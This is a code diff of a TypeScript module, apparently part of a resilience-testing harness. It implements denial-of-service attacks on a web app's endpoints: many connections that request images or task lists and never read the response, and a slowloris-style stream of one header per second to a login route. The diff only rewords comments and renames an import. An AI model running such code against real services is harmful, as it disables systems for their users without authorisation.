@@ -1,9 +1,12 @@
 import { connect, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { ATTACKER_ADDRESS, type Attack, type Target } from '../target.ts';
-import { uploadSmallFlyers } from './belongings.ts';
+import { uploadSmallFlyers } from './ownAccount.ts';
 
-/** Opens connections that send `text` and never read; answers how many were seen to be closed: by `drip`, as nothing is read. */
+/**
+ * Opens connections that send `text` and never read. Returns how many the server closed. A connection that does not read
+ * notices that only when it writes, so `drip` is sent every second.
+ */
 async function holdConnections({ baseUrl, seconds }: Target, count: number, text: string, drip = ''): Promise<number> {
   const { hostname, port } = new URL(baseUrl);
   let closed = 0;
@@ -32,20 +35,20 @@ const requestOf = ({ baseUrl, headers }: Target, path: string) =>
     .map(([name, value]) => `${name}: ${value}\r\n`)
     .join('')}\r\n`;
 
-/** Asks for a large image on many connections and reads none of it. */
+/** Requests a large image on many connections and reads none of it. */
 export const unreadImages: Attack = async (target) => {
   const closed = await holdConnections(target, 150, requestOf(target, `/api/get_image/${target.fileId}`));
   return `150 connections that ask for an image and do not read: ${closed} closed`;
 };
 
-/** Asks for a long list on many connections and reads none of it. */
+/** Requests a long list on many connections and reads none of it. */
 export const unreadLists: Attack = async (target) => {
   const uploads = await uploadSmallFlyers(target);
   const closed = await holdConnections(target, 45, requestOf(target, '/api/tasks'));
   return `6 uploads of 20 flyers: ${uploads}; 45 connections that ask for all tasks and do not read: ${closed} closed`;
 };
 
-/** Sends a header a second and never ends. */
+/** Sends one header per second and never completes the request. */
 export const slowHeaders: Attack = async (target) => {
   const start = `POST /api/auth/telegram HTTP/1.1\r\nHost: ${new URL(target.baseUrl).host}\r\n`;
   const closed = await holdConnections(target, 300, start, 'X-A: b\r\n');
